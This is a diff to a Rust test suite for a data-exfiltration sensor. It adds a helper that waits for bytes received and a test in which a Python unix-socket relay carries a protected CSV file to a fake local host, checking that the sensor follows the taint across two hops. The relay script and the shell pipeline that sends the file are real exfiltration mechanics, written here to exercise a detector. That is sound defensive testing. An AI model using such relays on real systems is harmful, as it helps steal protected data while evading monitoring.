@@ -139,7 +139,20 @@ impl FakeHost {
         host
     }
 
-    /// Bytes received per connection on `port`.
+    /// Bytes received per connection on `port`, once `n` connections have ended (or after a
+    /// few seconds).
+    fn received_n(&self, port: u16, n: usize) -> Vec<u64> {
+        for _ in 0..100 {
+            let got = self.received(port);
+            if got.len() >= n {
+                return got;
+            }
+            thread::sleep(Duration::from_millis(50));
+        }
+        self.received(port)
+    }
+
+    /// Bytes received per connection on `port` so far.
     fn received(&self, port: u16) -> Vec<u64> {
         fs::read_to_string(self.dir.join(port.to_string()))
             .unwrap_or_default()
@@ -201,6 +214,23 @@ const PY_SENDFILE: &str = "import socket, sys\nc = socket.create_connection((sys
 /// unconnected socket.
 const PY_UDP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): s.sendto(data[:1000], (sys.argv[2], int(sys.argv[3])))";
 
+/// `python3 relay.py SOCK HOST PORT`: accepts one unix-socket connection, reads it to the
+/// end with recv, and sends everything to HOST:PORT.
+const PY_RELAY: &str = "import socket, sys
+u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(1)
+c, _ = u.accept()
+data = b''
+while True:
+    b = c.recv(65536)
+    if not b: break
+    data += b
+o = socket.create_connection((sys.argv[2], int(sys.argv[3]))); o.sendall(data); o.close()
+";
+/// `python3 client.py SOCK`: sends its stdin over a unix socket.
+const PY_UNIX_CLIENT: &str = "import socket, sys
+u = socket.socket(socket.AF_UNIX); u.connect(sys.argv[1]); u.sendall(sys.stdin.buffer.read()); u.close()
+";
+
 fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
     move |e| {
         is(e, "detection.exfiltration")
@@ -211,7 +241,7 @@ fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
 #[test]
 fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     let cg = Cgroup::new();
-    let host = FakeHost::new(&[9101, 9102, 9103, 9104]);
+    let host = FakeHost::new(&[9101, 9102, 9103, 9104, 9106]);
     let mut s = setup(&cg, 1, "    action: alert\n");
     let file = s.protected.join("mynumber-0.csv");
 
@@ -219,7 +249,7 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     send_pipe(&cg, &s.outside.join("public.txt"), &host, 9101);
     // Tainted: cat reads the protected file, the pipe carries the taint to the sender.
     send_pipe(&cg, &file, &host, 9102);
-    assert_eq!(host.received(9102), vec![SIZE as u64]);
+    assert_eq!(host.received_n(9102, 1), vec![SIZE as u64]);
     let d = s.sensor.wait_for("exfiltration through the pipe", exfil_to(9102));
     assert_eq!(get_str(&d, "destination.address"), host.ip, "{}", show(&d));
     assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
@@ -248,6 +278,26 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     let d = s.sensor.wait_for("exfiltration over unconnected UDP", exfil_to(9105));
     assert_eq!(get_str(&d, "network.transport"), "udp", "{}", show(&d));
     assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), 3 * 1000, "{}", show(&d));
+
+    // A relay: the tainted client hands the data over a unix socket to another process,
+    // which sends it out.
+    let relay = s.outside.write("relay.py", PY_RELAY);
+    let client = s.outside.write("client.py", PY_UNIX_CLIENT);
+    let sock = s.outside.join("relay.sock");
+    let code = cg.run(&format!(
+        "python3 {relay} {sock} {ip} 9106 & while [ ! -S {sock} ]; do sleep 0.05; done; cat {file} | python3 {client} {sock}; wait",
+        relay = path_str(&relay),
+        client = path_str(&client),
+        sock = path_str(&sock),
+        ip = host.ip,
+        file = path_str(&file),
+    ));
+    assert_eq!(code, 0);
+    assert_eq!(host.received_n(9106, 1), vec![SIZE as u64]);
+    let d = s.sensor.wait_for("exfiltration through a unix-socket relay", exfil_to(9106));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 2, "pipe, then unix socket: {}", show(&d));
+    assert_eq!(get_str(&d, "mnsensor.taint.origin.name"), "cat", "{}", show(&d));
 
     // By now the untainted send has long been polled.
     thread::sleep(scaled(Duration::from_secs(2)));
@@ -285,7 +335,7 @@ fn deny_refuses_a_tainted_connect_with_eperm_but_not_to_an_allowed_destination()
     assert_eq!(get_str(&d, "destination.address"), host.ip);
     // An untainted process is never refused.
     assert_eq!(run(&s.outside.join("public.txt"), 9201), 0, "untainted connect");
-    assert_eq!(host.received(9201), vec![SIZE as u64]);
+    assert_eq!(host.received_n(9201, 1), vec![SIZE as u64]);
     thread::sleep(scaled(Duration::from_secs(2)));
     s.sensor.assert_none("detection for the allowed destination", exfil_to(9202));
     s.sensor.stop();
